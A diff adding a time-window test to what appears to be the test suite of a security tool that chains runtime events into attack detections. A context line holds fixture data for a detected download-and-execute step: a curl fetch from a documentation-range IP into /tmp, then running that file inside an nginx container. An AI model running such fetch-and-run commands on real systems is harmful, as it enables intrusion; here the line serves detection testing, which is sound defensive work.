@@ -71,6 +71,16 @@ describe('pedigree chains', () => {
     expect(obj.output_fields).toMatchObject({ 'fetch.proc.cmdline': 'curl -s -o /tmp/x http://203.0.113.7/x', 'run.proc.exepath': '/tmp/x', 'container.name': 'nginx' });
   });
 
+  it('run --since/--until: every step must fall inside the interval', () => {
+    const whole = runCli(['chains', 'run', '--db', db, '--no-save', '-q', '--since', '2024-11-28T13:20:15Z', '--until', '2024-11-28T13:20:17Z'], { env });
+    expect(whole.stdout.match(/^\S+: (Critical|Error) /gm)).toHaveLength(2);
+    // The shell started at 13:20:15.0165; from 13:20:15.5 on, only later steps remain.
+    const cut = runCli(['chains', 'run', '--db', db, '--no-save', '--since', '2024-11-28T13:20:15.5Z'], { env });
+    expect(cut.code, cut.stderr).toBe(0);
+    expect(cut.stdout).toBe('');
+    expect(cut.stderr).toContain('5 chains run, 0 matches');
+  });
+
   it('check: every bundled chain is evaluable', () => {
     const r = runCli(['chains', 'check', BUNDLED_CHAINS, '--json']);
     expect(r.code, r.stderr).toBe(0);
